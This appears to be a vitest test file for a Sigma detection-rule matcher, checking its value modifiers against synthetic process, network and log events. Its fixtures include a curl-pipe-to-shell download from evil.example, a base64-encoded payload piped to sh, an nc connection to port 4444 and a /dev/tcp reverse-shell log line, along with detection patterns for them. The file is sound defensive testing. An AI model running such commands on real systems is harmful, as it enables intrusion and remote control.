import { describe, expect, it } from 'vitest';
import { matches, proc, processRule, ruleSet } from '../test/helpers.js';

const rule = (sel: string): string => processRule(`  selection:\n${sel}\n  condition: selection`);
const bash = proc('/usr/bin/bash', ['bash', '-c', 'curl http://evil.example/x.sh | sh'], { parentExe: '/usr/sbin/nginx', cwd: '/var/www' });

describe('Sigma value matching', () => {
  it('plain values are exact and case-insensitive', () => {
    expect(matches(rule("    Image: '/USR/BIN/BASH'"), bash)).toBe(true);
    expect(matches(rule("    Image: '/usr/bin/bas'"), bash)).toBe(false);
  });
  it('wildcards * and ? match, and \\* is a literal star', () => {
    expect(matches(rule("    Image: '/usr/*/ba?h'"), bash)).toBe(true);
    expect(matches(rule("    Image: '/usr/*/ba?'"), bash)).toBe(false);
    expect(matches(rule("    CommandLine: 'a\\*b'"), proc('/bin/x', ['a*b']))).toBe(true);
    expect(matches(rule("    CommandLine: 'a\\*b'"), proc('/bin/x', ['axxb']))).toBe(false);
  });
  it('a value list is OR; two fields are AND', () => {
    expect(matches(rule("    Image: ['/bin/sh', '/usr/bin/bash']"), bash)).toBe(true);
    expect(matches(rule("    Image: '/usr/bin/bash'\n    CurrentDirectory: '/tmp'"), bash)).toBe(false);
  });
  it('a list of maps is OR of ANDs', () => {
    const r = processRule('  selection:\n    - Image: /bin/sh\n    - Image: /usr/bin/bash\n      CurrentDirectory: /var/www\n  condition: selection');
    expect(matches(r, bash)).toBe(true);
  });
  it('numbers compare as text', () => {
    expect(matches(rule('    ProcessId: 100'), bash)).toBe(true);
    expect(matches(rule('    ProcessId: 101'), bash)).toBe(false);
  });
  it('contains', () => {
    expect(matches(rule("    CommandLine|contains: 'EVIL.example'"), bash)).toBe(true);
    expect(matches(rule("    CommandLine|contains: 'good.example'"), bash)).toBe(false);
  });
  it('startswith', () => {
    expect(matches(rule("    CommandLine|startswith: 'bash -c'"), bash)).toBe(true);
    expect(matches(rule("    CommandLine|startswith: '-c'"), bash)).toBe(false);
  });
  it('endswith', () => {
    expect(matches(rule("    ParentImage|endswith: '/nginx'"), bash)).toBe(true);
    expect(matches(rule("    ParentImage|endswith: '/apache2'"), bash)).toBe(false);
  });
  it('contains|all needs every value', () => {
    expect(matches(rule("    CommandLine|contains|all: ['curl', '| sh']"), bash)).toBe(true);
    expect(matches(rule("    CommandLine|contains|all: ['curl', 'wget']"), bash)).toBe(false);
  });
  it('cased makes matching case-sensitive', () => {
    expect(matches(rule("    CommandLine|contains|cased: 'CURL'"), bash)).toBe(false);
    expect(matches(rule("    CommandLine|contains|cased: 'curl'"), bash)).toBe(true);
  });
  it('re searches case-sensitively, with i/m/s flags', () => {
    expect(matches(rule("    CommandLine|re: 'curl\\s+http://[a-z.]+/'"), bash)).toBe(true);
    expect(matches(rule("    CommandLine|re: 'CURL'"), bash)).toBe(false);
    expect(matches(rule("    CommandLine|re|i: 'CURL'"), bash)).toBe(true);
    expect(matches(rule("    CommandLine|re: '(?i)CURL'"), bash)).toBe(true);
    const two = proc('/bin/x', ['a\nb']);
    expect(matches(rule("    CommandLine|re: '^b'"), two)).toBe(false);
    expect(matches(rule("    CommandLine|re|m: '^b'"), two)).toBe(true);
    expect(matches(rule("    CommandLine|re: 'a.b'"), two)).toBe(false);
    expect(matches(rule("    CommandLine|re|s: 'a.b'"), two)).toBe(true);
  });
  it('cidr matches v4 and v6 networks', () => {
    const conn = (ip: string): Record<string, unknown> => ({
      networkConnection: {
        transport: 'TCP',
        ipVersion: ip.includes(':') ? 6 : 4,
        localAddress: '10.0.0.2',
        localPort: 40000,
        remoteAddress: ip,
        remotePort: 4444,
        direction: 'OUTBOUND',
        pid: 5,
        exe: '/usr/bin/nc',
      },
    });
    const r =
      "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n  sel:\n    DestinationIp|cidr: ['192.168.0.0/16', 'fc00::/7']\n  condition: sel\n";
    expect(matches(r, conn('192.168.4.5'))).toBe(true);
    expect(matches(r, conn('::ffff:192.168.4.5'))).toBe(true);
    expect(matches(r, conn('fd12::1'))).toBe(true);
    expect(matches(r, conn('8.8.8.8'))).toBe(false);
  });
  it('base64 and base64offset find encoded text', () => {
    const enc = Buffer.from('xx stratum+tcp://pool yy').toString('base64');
    const p = proc('/bin/sh', ['sh', '-c', `echo ${enc} | base64 -d | sh`]);
    expect(matches(rule("    CommandLine|base64offset|contains: 'stratum+tcp://'"), p)).toBe(true);
    expect(matches(rule("    CommandLine|base64offset|contains: 'stratum+udp://'"), p)).toBe(false);
    const whole = proc('/bin/sh', ['sh', '-c', `echo ${Buffer.from('whoami').toString('base64')}`]);
    expect(matches(rule("    CommandLine|base64|contains: 'whoami'"), whole)).toBe(true);
    expect(matches(rule("    CommandLine|base64|contains: 'id -a'"), whole)).toBe(false);
  });
  it('utf16le/wide encode before base64', () => {
    const enc = Buffer.from('secret', 'utf16le').toString('base64');
    expect(matches(rule("    CommandLine|wide|base64|contains: 'secret'"), proc('/bin/x', [enc]))).toBe(true);
  });
  it('windash accepts - and / and unicode dashes', () => {
    const r = rule("    CommandLine|windash|contains: ' -exec '");
    expect(matches(r, proc('/bin/find', ['find', '.', '/exec', 'x']))).toBe(true);
    expect(matches(r, proc('/bin/find', ['find', '.', '\u2013exec', 'x']))).toBe(true);
    expect(matches(r, proc('/bin/find', ['find', '.', 'exec', 'x']))).toBe(false);
  });
  it('exists tests presence', () => {
    expect(matches(rule('    Tty|exists: false'), bash)).toBe(true);
    expect(matches(rule('    Tty|exists: true'), bash)).toBe(false);
    expect(matches(rule('    CurrentDirectory|exists: true'), bash)).toBe(true);
  });
  it('gt/gte/lt/lte compare numbers', () => {
    expect(matches(rule('    ProcessId|gt: 99'), bash)).toBe(true);
    expect(matches(rule('    ProcessId|gt: 100'), bash)).toBe(false);
    expect(matches(rule('    ProcessId|gte: 100'), bash)).toBe(true);
    expect(matches(rule('    ProcessId|lt: 100'), bash)).toBe(false);
    expect(matches(rule('    ProcessId|lte: 100'), bash)).toBe(true);
  });
  it('fieldref compares two fields', () => {
    const same = proc('/usr/bin/bash', ['bash'], { parentExe: '/usr/bin/bash' });
    expect(matches(rule('    Image|fieldref: ParentImage'), same)).toBe(true);
    expect(matches(rule('    Image|fieldref: ParentImage'), bash)).toBe(false);
    expect(matches(rule('    ParentImage|fieldref|endswith: Comm'), proc('/x', ['x'], { parentExe: '/usr/sbin/nginx', comm: 'nginx' }))).toBe(true);
  });
  it('null matches an absent or empty field', () => {
    expect(matches(rule('    Tty: null'), bash)).toBe(true);
    expect(matches(rule('    CurrentDirectory: null'), bash)).toBe(false);
  });
  it('keywords search the raw log line', () => {
    const r =
      "title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords:\n    - 'Corrupted MAC on input'\n    - 'bad client*value'\n  condition: keywords\n";
    const log = (raw: string): Record<string, unknown> => ({ log: { source: '/var/log/auth.log', raw, parser: 'sshd', program: 'sshd' } });
    expect(matches(r, log('sshd[1]: corrupted mac on input.'))).toBe(true);
    expect(matches(r, log('sshd[1]: Bad client public DH value'))).toBe(true);
    expect(matches(r, log('sshd[1]: Accepted publickey for root'))).toBe(false);
    const all = "title: t\nlogsource: {product: linux}\ndetection:\n  keywords:\n    '|all': ['bash -c /bin/bash', '&/dev/tcp/']\n  condition: keywords\n";
    expect(matches(all, log('x bash -c /bin/bash 0>&/dev/tcp/1.2.3.4/80'))).toBe(true);
    expect(matches(all, log('x bash -c /bin/bash'))).toBe(false);
  });
  it('reports every unsupported modifier by name, with its line', () => {
    const set = ruleSet(processRule("  sel:\n    Image|expand: '%x%'\n    CommandLine|bogus: y\n  condition: sel"));
    expect(set.detections).toHaveLength(0);
    expect(set.problems.map((p) => [p.feature, p.line])).toEqual([
      ['modifier:expand', 6],
      ['modifier:bogus', 7],
    ]);
  });
  it('reports a broken regular expression', () => {
    const set = ruleSet(rule("    CommandLine|re: '(['"));
    expect(set.problems[0]?.feature).toBe('modifier:re');
  });
});
